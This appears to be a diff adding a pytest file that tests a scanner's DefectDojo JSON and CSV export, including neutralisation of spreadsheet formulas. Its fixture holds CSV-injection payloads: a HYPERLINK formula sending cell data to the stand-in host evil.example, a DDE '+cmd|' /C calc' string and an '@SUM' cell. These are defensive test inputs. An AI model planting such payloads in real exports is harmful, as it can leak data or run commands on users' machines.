@@ -1,0 +1,121 @@
+"""Exports from a real report step: DefectDojo Generic Findings Import JSON that keeps to what DefectDojo's
+importer accepts (rules in fixtures/defectdojo), and CSV whose cells cannot run as spreadsheet formulas."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import date
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+
+from lib.core.exports import CSV_COLUMNS, defectdojo_json, findings_csv, neutralise
+from lib.core.findings import Asset, Finding
+from lib.engines.report import build_report
+from lib.engines.worker import main as worker_main
+from lib.engines.workspace import ScanMeta, StepOutcome, Workspace
+
+RULES = json.loads((Path(__file__).parent / "fixtures" / "defectdojo" / "generic-import-rules.json").read_text())
+pytestmark = pytest.mark.slow  # builds a real report (PDF)
+
+
+@pytest.fixture(scope="module")
+def report(tmp_path_factory):
+    tmp = tmp_path_factory.mktemp("exports")
+    ws = Workspace(tmp, "abcdef012345")
+    ws.write_meta(ScanMeta("abcdef012345", "https://shop.example/", "ana@example.com", {"web": {}}, "2026-12-01"))
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    findings = [
+        Finding(
+            "zap",
+            "zap-10038-1",
+            "Content Security Policy (CSP) Header Not Set",
+            "medium",
+            Asset(host="shop.example", port=443, protocol="https", url=f"https://shop.example/p{i}?q=1"),
+            "2.16.1",
+            cwe=("CWE-693",),
+            evidence="no CSP",
+            remediation="Send a CSP.",
+            references=("https://owasp.org/csp",),
+            steps=("web",),
+        )
+        for i in range(3)
+    ]
+    findings.append(
+        Finding(
+            "zap",
+            "zap-40012",
+            hostile,
+            "high",
+            Asset(host="shop.example", port=443, protocol="https", url="https://shop.example/search"),
+            cve=("CVE-2024-0001",),
+            evidence="+cmd|' /C calc'!A0",
+            remediation="@SUM(1+1)",
+            steps=("web",),
+        )
+    )
+    ws.write_step(StepOutcome("web", "succeeded", "zap", "2.16.1", findings=findings))
+    build_report(ws, [])
+    return ws, hostile
+
+
+def test_defectdojo_json_keeps_to_the_importers_rules(report):
+    ws, _ = report
+    doc = json.loads((ws.root / "defectdojo.json").read_text())
+    assert set(doc) <= set(RULES["test_keys"])
+    assert len(doc["findings"]) == 2  # CSP on three URLs is one finding with three endpoints
+    allowed = set(RULES["json_allowed"]) | set(RULES["json_required"]) | set(RULES["json_popped_before_checks"])
+    for item in doc["findings"]:
+        assert set(RULES["json_required"]) <= set(item)
+        assert set(item) <= allowed, set(item) - allowed
+        assert item["severity"] in RULES["severities"]
+        date.fromisoformat(item["date"])
+        for e in item["endpoints"]:
+            assert set(e) <= set(RULES["endpoint_fields"]) and e["host"] == "shop.example"
+    csp = next(i for i in doc["findings"] if i.get("cwe") == 693)
+    assert csp["nb_occurences"] == 3 and [e["path"] for e in csp["endpoints"]] == ["p0", "p1", "p2"]
+    assert csp["vuln_id_from_tool"] == "web.missing-csp"
+    xss = next(i for i in doc["findings"] if i["severity"] == "High")
+    assert xss["vulnerability_ids"] == [{"vulnerability_id": "CVE-2024-0001"}] and "cwe" not in xss
+
+
+def test_csv_has_defectdojos_columns_and_no_live_formulas(report):
+    ws, hostile = report
+    text = (ws.root / "findings.csv").read_bytes().decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert set(RULES["csv_required_columns"]) <= set(rows[0]) and tuple(rows[0]) == CSV_COLUMNS
+    assert len(rows) == 4  # one row per instance
+    for row in rows:
+        int(row["CweId"])
+        date.fromisoformat(row["Date"])
+        assert row["Severity"] in RULES["severities"]
+        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+        assert urlsplit(row["Url"]).hostname == "shop.example"
+    bad = next(r for r in rows if r["Severity"] == "High")
+    assert bad["Title"] == "'" + hostile and bad["Mitigation"] == "'@SUM(1+1)"
+    assert bad["Description"].startswith("'+cmd")
+
+
+@pytest.mark.parametrize(("cell", "out"), [("=1+1", "'=1+1"), ("\t=x", "'\t=x"), ("\rx", "'\rx"), ("ok=1", "ok=1")])
+def test_neutralise(cell, out):
+    assert neutralise(cell) == out
+
+
+def test_worker_exports_a_stored_findings_json(report, tmp_path, capsys):
+    ws, _ = report
+    out = tmp_path / "dojo.json"
+    args = ["export", "--format", "defectdojo", "--output", str(out), "--input", str(ws.root / "findings.json")]
+    assert worker_main([*args, "--scan-id", ws.scan_id, "--workdir", str(tmp_path)]) == 0
+    assert json.loads(out.read_text()) == defectdojo_json(json.loads((ws.root / "findings.json").read_text()))
+    csv_out = tmp_path / "f.csv"
+    argv = ["export", "--format", "csv", "--output", str(csv_out), "--scan-id", ws.scan_id]
+    assert worker_main([*argv, "--workdir", str(ws.root.parent)]) == 0  # the scan's own findings.json
+    assert csv_out.read_bytes().decode() == findings_csv(json.loads((ws.root / "findings.json").read_text()))
+    not_findings = tmp_path / "x.json"
+    not_findings.write_text("[]")
+    bad = ["export", "--format", "csv", "--output", str(csv_out), "--input", str(not_findings)]
+    assert worker_main([*bad, "--scan-id", ws.scan_id, "--workdir", str(tmp_path)]) == 2
+    assert "is not a scanboard findings.json" in capsys.readouterr().err
